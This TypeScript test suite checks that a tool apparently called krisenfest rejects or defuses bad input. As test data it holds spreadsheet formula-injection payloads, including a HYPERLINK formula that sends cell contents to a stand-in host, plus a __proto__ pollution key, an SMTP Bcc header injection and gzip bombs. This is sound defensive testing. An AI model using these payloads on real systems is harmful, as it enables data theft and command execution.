import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { createServer as createTcpServer } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { setTimeout as wait } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import type { ChannelView, TestView } from '../../src/act/alerting/channels.contract.ts';
import type { ScanView } from '../../src/know/discovery/discovery.contract.ts';
import { de as gapsDe } from '../../src/know/discovery/notchecked.texts.ts';
import type { ImportAnswer } from '../../src/know/inventory/inventory.contract.ts';
import { dnsWorld } from '../world/dns.ts';
import { type Answer, type Firm, startHouse, type TestHouse } from '../world/house.ts';
import { scratchFolder } from '../world/scratch.ts';

const CLI = join(import.meta.dirname, '..', '..', 'src', 'cli.ts');
const krisenfest = (...args: string[]) => {
  const { status, stdout, stderr } = spawnSync(process.execPath, ['--disable-warning=ExperimentalWarning', CLI, ...args], {
    encoding: 'utf8',
  });
  return { status, stdout, stderr };
};

/** The seven kinds of bad input: each gets a sentence with the place of the fault, and nothing half-done stays. */
describe('bad input', () => {
  let world: TestHouse;
  let firm: Firm;
  const folder = scratchFolder('badinput');
  before(async () => {
    world = await startHouse();
    firm = await world.setUp();
  });
  after(async () => {
    assert.deepEqual(world.faults, []);
    await world.close();
    folder.remove();
  });

  const model = async () => (await firm.call('GET', `${firm.root}/model`)).text;
  const contacts = async () => (await firm.call('GET', `${firm.root}/contacts`)).text;
  const importModel = async (content: Uint8Array | string) =>
    (await firm.call('POST', `${firm.root}/model/import?how=merge`, content)).body as ImportAnswer;
  const placesOf = ({ body }: Answer) => (body as { errors: { pointer: string }[] }).errors.map(({ pointer }) => pointer);

  test('1. config: the option is named, nothing starts, no folder is made', () => {
    const data = join(folder.path, 'never');
    const port = krisenfest('serve', '--data', data, '--port', 'http');
    assert.deepEqual([port.status, port.stderr], [2, '--port (or KRISENFEST_PORT): must be a port number\n']);
    const open = krisenfest('serve', '--data', data, '--host', '0.0.0.0');
    assert.equal(open.status, 2);
    assert.match(open.stderr, /^--host 0\.0\.0\.0 would be reachable/);
    const certificate = krisenfest('serve', '--data', data, '--tls-cert', '/nowhere.pem', '--tls-key', '/nowhere.key');
    assert.deepEqual([certificate.status, /nowhere\.pem/.test(certificate.stderr)], [2, true]);
    const file = join(folder.path, 'a-file');
    writeFileSync(file, 'not a backup');
    const notFolder = krisenfest('serve', '--data', file);
    assert.deepEqual([notFolder.status, notFolder.stderr], [2, `${file} is a file. A folder is needed here.\n`]);
    const missing = krisenfest('simulate', join(folder.path, 'gone.json'), '--fail', 'a');
    assert.deepEqual([missing.status, missing.stderr], [2, `There is no file or folder ${join(folder.path, 'gone.json')}.\n`]);
    const folderRead = krisenfest('simulate', folder.path, '--fail', 'a');
    assert.deepEqual([folderRead.status, folderRead.stderr], [2, `${folder.path} is a folder. A file is needed here.\n`]);
    const nobodyTypes = krisenfest('restore', file, '--data', data);
    assert.equal(nobodyTypes.status, 2);
    assert.match(nobodyTypes.stderr, /No key was given\. Type it, or name a file/);
    rmSync(file);
    assert.equal(existsSync(data), false);
  });

  test('2. API body: every fault with its pointer, too much is refused unread, and nothing is saved', async () => {
    const before = await contacts();
    const bad = await firm.call('POST', `${firm.root}/contacts`, {
      name: 'Eva\0',
      company: '',
      note: '',
      language: 'de',
      addresses: [],
    });
    assert.deepEqual([bad.status, placesOf(bad)], [400, ['/name']]);
    assert.match(bad.text, /The input is not valid: \/name holds a NUL byte\./);
    const half = await firm.call('POST', `${firm.root}/contacts`, { name: '\ud83d', company: '', note: '', language: 'de', addresses: [] });
    assert.deepEqual([half.status, placesOf(half)], [400, ['/name']]);
    const huge = await firm
      .call('POST', `${firm.root}/contacts/imports`, new Uint8Array(50 << 20))
      // The server hangs up in the middle of what it will not read; some clients see that before they see the answer.
      .catch((error: unknown) => assert.ok(error instanceof TypeError));
    if (huge) {
      assert.equal(huge.status, 413);
      assert.match(huge.text, /"detail":"[^"]+"/);
    }
    assert.equal(await contacts(), before);
  });

  test('3. CSV: the line is named and nothing imported; cells that a spreadsheet would run are defused on the way out', async () => {
    const before = await contacts();
    const refused = await firm.call('POST', `${firm.root}/contacts/imports`, 'Name;E-Mail\nGut;gut@x.example\nSchlecht;schlecht@\n');
    assert.equal(refused.status, 422);
    assert.match(refused.text, /Nothing was imported: line 3/);
    const utf16WithNul = Buffer.from('\uFEFFName;E-Mail\r\nA\0B;a@x.example\r\n', 'utf16le');
    assert.equal((await firm.call('POST', `${firm.root}/contacts/imports`, new Uint8Array(utf16WithNul))).status, 422);
    assert.equal(await contacts(), before);

    const evil = [`=HYPERLINK("http://boese.example?"&A1)`, ' =1+1', '@SUM(1)', '+cmd|calc', '-2+3', '＝1+1', `'=1`];
    for (const name of evil) {
      const added = await firm.call('POST', `${firm.root}/contacts`, { name, company: name, note: '', language: 'de', addresses: [] });
      assert.equal(added.status, 201, added.text);
      const node = { kind: 'system', name, note: name };
      assert.equal((await firm.call('POST', `${firm.root}/inventory/nodes`, node)).status, 201);
    }
    for (const path of ['/contacts.csv', '/inventory/sheet?what=nodes']) {
      const { text } = await firm.call('GET', `${firm.root}${path}`);
      assert.ok(text.includes('HYPERLINK'), path);
      assert.equal(/(^|;|\n)"?\s*([=@＝]|\+cmd|-2)/.test(text), false, `${path} has a cell that runs: ${text}`);
    }
  });

  test('4. model file: every fault with its pointer, a hundred thousand too, and the model stays as it was', async () => {
    const before = await model();
    const nodes = Array.from({ length: 100_000 }, (_, n) => ({ id: `n${n}`, kind: 'planet', name: 'x' }));
    const many = await importModel(JSON.stringify({ format: 'krisenfest-model@1', nodes }));
    assert.equal(many.saved, false);
    assert.match(many.faults[0]?.pointer ?? '', /^\/nodes\/0\/kind$/);
    assert.ok(many.faults.length <= 1001, `${many.faults.length} faults would be more than anybody reads`);
    assert.deepEqual(many.faults.at(-1), { pointer: '', message: 'and 99000 more faults' });
    for (const [content, place, sentence] of [
      [Buffer.from('{"format":"krisenfest-model@1","company":{"name":"Mühlhaus"}}', 'latin1'), '', /not UTF-8/],
      [Buffer.from('\uFEFF{"format":"krisenfest-model@1"}', 'utf16le'), '', /not UTF-8/],
      [`{"format":"krisenfest-model@1","nodes":[{"id":"a\\u0000","kind":"system","name":"x"}]}`, '/nodes/0/id', /NUL/],
      [`{"format":"krisenfest-model@1","nodes":${'['.repeat(1e6)}${']'.repeat(1e6)}}`, '/nodes', /nested/],
      [
        `{"format":"krisenfest-model@1","nodes":[{"id":"a","kind":"process","name":"x","costPerHour":1e400}]}`,
        '/nodes/0/costPerHour',
        /number/,
      ],
      [
        `{"format":"krisenfest-model@1","__proto__":{"nodes":1},"nodes":[{"id":"__proto__","kind":"x","name":"x"}]}`,
        '/nodes/0/kind',
        /not one of/,
      ],
      ['{"format":', '', /not JSON/],
    ] as const) {
      const answer = await importModel(new Uint8Array(Buffer.from(content)));
      assert.equal(answer.saved, false);
      assert.ok(answer.faults[0]?.pointer.startsWith(place), JSON.stringify(answer.faults[0]));
      assert.match(answer.faults[0]?.message ?? '', sentence);
    }
    assert.equal(await model(), before);

    const file = join(folder.path, 'model.json');
    writeFileSync(file, Buffer.from('{"format":"krisenfest-model@1","company":{"name":"Mühlhaus"}}', 'latin1'));
    assert.match(krisenfest('simulate', file, '--fail', 'x').stderr, /model\.json is not UTF-8 text/);
    writeFileSync(file, '\uFEFF{"format":"krisenfest-model@1","nodes":[{"id":"a","kind":"planet","name":"x"}]}');
    const simulated = krisenfest('simulate', file, '--fail', 'a');
    assert.deepEqual([simulated.status, simulated.stdout], [2, '']);
    assert.match(simulated.stderr, /^\/nodes\/0\/kind: not one of /);
  });

  test('5. garbage from name servers: the scan says which questions nobody answered, and the inventory stays', async () => {
    const before = await model();
    const names = await dnsWorld([], () => 'garbage');
    try {
      assert.equal((await firm.call('PUT', `${firm.root}/scans/settings`, { resolver: names.server })).status, 200);
      const asked = await firm.call('POST', `${firm.root}/scans`, { domain: 'firma.example' });
      const { id } = asked.body as { id: string };
      let scan: ScanView | undefined;
      for (let tries = 0; tries < 400; tries++) {
        scan = (await firm.call('GET', `${firm.root}/scans/${id}`)).body as ScanView;
        if (scan.state !== 'waiting' && scan.state !== 'running') break;
        await wait(100);
      }
      assert.ok(scan);
      assert.deepEqual(scan.findings, []);
      const { text } = await firm.call('GET', `${firm.root}/scans/${id}`);
      assert.match(text, /firma\.example/);
      assert.ok(scan.notChecked.length > 0, text);
      for (const gap of scan.notChecked) assert.ok(gapsDe.what(gap.what).length > 2 && gapsDe.why(gap.why).length > 5, JSON.stringify(gap));
    } finally {
      await names.close();
    }
    assert.equal(await model(), before);
  });

  test('6. HTML bombs and gzip bombs: the check says what is wrong with which answer, and is not saved by being tried', async () => {
    const bomb = gzipSync(Buffer.alloc(64 << 20));
    const page = `<html>${'<b>'.repeat(400_000)}`;
    const site = createServer((request, answer) => {
      if (request.url === '/gzip') answer.writeHead(200, { 'content-encoding': 'gzip', 'content-type': 'text/html' }).end(bomb);
      else if (request.url === '/layers')
        answer.writeHead(200, { 'content-encoding': 'gzip, gzip, gzip' }).end(gzipSync(gzipSync(gzipSync('x'))));
      else answer.writeHead(200, { 'content-type': 'text/html' }).end(page);
    });
    await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
    const address = site.address();
    const base = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
    try {
      const look = async (path: string) => {
        const config = { url: `${base}${path}`, contains: 'Willkommen' };
        const answer = await firm.call('POST', `${firm.root}/checks/try`, { kind: 'http', config });
        assert.equal(answer.status, 200, answer.text);
        return (answer.body as { observation: { outcome: string } }).observation;
      };
      for (const path of ['/gzip', '/layers', '/deep']) {
        const observation = await look(path);
        assert.notEqual(observation.outcome, 'up', `${path} ${JSON.stringify(observation)}`);
        assert.match(JSON.stringify(observation), /larger than 2000000 bytes|packs its answer more than twice|text-missing/, path);
      }
      assert.match((await firm.call('GET', `${firm.root}/checks`)).text, /"checks":\[\]/);
    } finally {
      site.close();
    }
  });

  test('7. wrong SMTP: the field is named before anything is saved; a server that is none is named by its address', async () => {
    const odd = createTcpServer((socket) => socket.on('error', () => undefined).end('SSH-2.0-OpenSSH_9.2\r\n'));
    await new Promise<void>((resolve) => odd.listen(0, '127.0.0.1', resolve));
    const address = odd.address();
    const port = typeof address === 'object' && address ? address.port : 0;
    try {
      const good = { host: '127.0.0.1', port, security: 'none', from: 'alarm@musterbau.example' };
      const before = (await firm.call('GET', `${firm.root}/channels`)).text;
      for (const [place, settings] of [
        ['/settings/port', { ...good, port: 99_999 }],
        ['/settings/host', { ...good, host: 'mail server' }],
        ['/settings/host', { ...good, host: '' }],
        ['/settings/from', { ...good, from: 'alarm' }],
        ['/settings/from', { ...good, from: 'a@b.example\r\nBcc: x@y.example' }],
        ['/settings/security', { ...good, security: 'vielleicht' }],
      ] as const) {
        const refused = await firm.call('POST', `${firm.root}/channels`, { kind: 'email', name: 'Mail', settings });
        assert.deepEqual([refused.status, [...new Set(placesOf(refused))]], [400, [place]], refused.text);
      }
      assert.equal((await firm.call('GET', `${firm.root}/channels`)).text, before);

      const made = await firm.call('POST', `${firm.root}/channels`, { kind: 'email', name: 'Mail', settings: good });
      const channel = made.body as ChannelView;
      const tested = await firm.call('POST', `${firm.root}/channels/${channel.id}/tests`, { address: firm.email, language: 'de' });
      const { alertId } = tested.body as { alertId: string };
      let said = '';
      for (let tries = 0; tries < 100 && !said.includes('kein Mailserver'); tries++) {
        await wait(100);
        const { body } = await firm.call('GET', `${firm.root}/alert-tests/${alertId}`);
        said = JSON.stringify((body as { messages: TestView[] }).messages);
      }
      assert.match(said, /antwortet kein Mailserver/);
      assert.match(said, /127\.0\.0\.1/);
    } finally {
      odd.close();
    }
  });

  test('after all of it no file lies around', () => {
    assert.deepEqual(readdirSync(folder.path), ['model.json']);
  });
});
